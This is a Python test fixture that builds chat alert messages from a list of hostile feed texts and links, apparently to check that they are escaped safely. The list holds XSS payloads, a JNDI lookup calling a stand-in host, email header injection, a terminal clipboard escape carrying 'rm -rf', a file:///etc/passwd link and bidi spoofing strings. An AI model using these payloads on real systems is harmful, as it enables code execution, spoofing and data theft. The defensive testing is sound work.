"""Sixty texts that a feed may send to do harm, and a message with each in every field of feed text."""

from __future__ import annotations

from datetime import UTC, datetime

from model import Mention, Message, Section
from tests.scenes.messages import a_message

TEXTS = (
    # mentions and tokens of chats
    "<!channel> all", "<!here|here>", "<!everyone>", "<@U0123456>", "<@W0123456|boss>", "<#C012345|x>",
    "<!subteam^S012345>", "<!date^1^{date}|x>", "@channel @here @everyone", "@all @room", "<@&123456>",
    "<https://evil.example|https://bank.example>", "[bank](https://evil.example)", "![x](http://e.example/p.png)",
    "<at user_id=\"all\">all</at>", "<font color=\"red\">x</font>", "tel:+1234567", ":tada: :siren:",
    # markup of chats and terminals
    "*bold* _it_ ~no~ `code`", "```\ncode\n```", "> quote\n> quote", "# head\n## head", "* one\n* two", "||spoiler||",
    # markup of HTML, XML and templates
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' onmouseover='alert(1)", "<svg onload=1>",
    "</title><script>1</script>", "&lt;img src=x onerror=1&gt;", "<a href=javascript:alert(1)>x</a>", "<style>*{}</style>",
    "]]><x/><![CDATA[", "<!-- x --!><b>", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'b'>]>&a;", "<iframe srcdoc='x'>",
    "<meta http-equiv=refresh content=0>", "{{ 7*7 }}", "{% raw %}", "${jndi:ldap://e.example/x}", "{{ .Labels }}",
    # headers, encoded words, lines
    "x\r\nBcc: all@example.org", "x\nSubject: y\n\nbody", "=?utf-8?b?PGI+?=", "=?utf-8?q?=0ABcc:_x?=", "\r\n.\r\nMAIL FROM:<x>",
    "x\u2028Bcc: y\u2029z", "x\x85y\x0bz\x0cw",
    # controls, directions, nothing to see
    "\x1b[31mred\x1b[0m", "\x1b]52;c;cm0gLXJm\x07", "\x9b31m", "a\x00b\x7f\x08\x08", "\u202egpj.exe\u202c", "\u2066a\u2069\u200f\u200e",
    "\ud800 \udc80", "\ufeff\u200b\u2060\u00ad", "\ufffe\uffff", "a" + "\u0300" * 300,
    # formulas, and much of it
    "=HYPERLINK(\"http://e.example\")", "W" * 10_000,
)  # fmt: skip
LINKS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>1</script>", "vbscript:x",
    "//evil.example/x", "file:///etc/passwd", "http://", "https:evil", "http://[x", " javascript:1",
    "http://e.example/\r\nX: y", "https://e.example/\"onmouseover=\"alert(1)", "https://e.example/<b>|x>",
    "ftp://e.example/x", "slack://channel?id=1", "https://u:p@e.example/@everyone", "HTTPS://E.EXAMPLE/\u202egpj",
    "https://e.example/\x1b]8;;", "mailto:x@example.org", "https://e.example/]]>",
)  # fmt: skip
AT = datetime(2026, 11, 22, 7, 40, tzinfo=UTC)


def make_message(text: str, link: str) -> Message:
    """Return a message with *text* and *link* wherever texts of feeds can stand."""
    mention = Mention(
        title=text,
        link=link,
        publisher=text,
        published=AT,
        title_spans=((0, 3), (2, 99_999)),
        excerpt=text,
        excerpt_spans=((1, 4),),
        reports=3,
    )
    section = Section("Digital currency", 2, (mention, mention), 7)
    return a_message(
        kind="match",
        headline=f"Digital currency: {text} — {text}",
        watch="Digital currency",
        lines=(f"Last report: {text}", text),
        mentions=(mention, mention),
        sections=(section, section),
        more=3,
        why=f"Matched “{text}” in title",
        keywords=(text,),
        page="https://groundswell.example.org/trends/n62smr6j5yag",
    )


def list_messages() -> list[Message]:
    """Return a message of each hostile text, each with one of the hostile links."""
    return [make_message(text, LINKS[number % len(LINKS)]) for number, text in enumerate(TEXTS)]
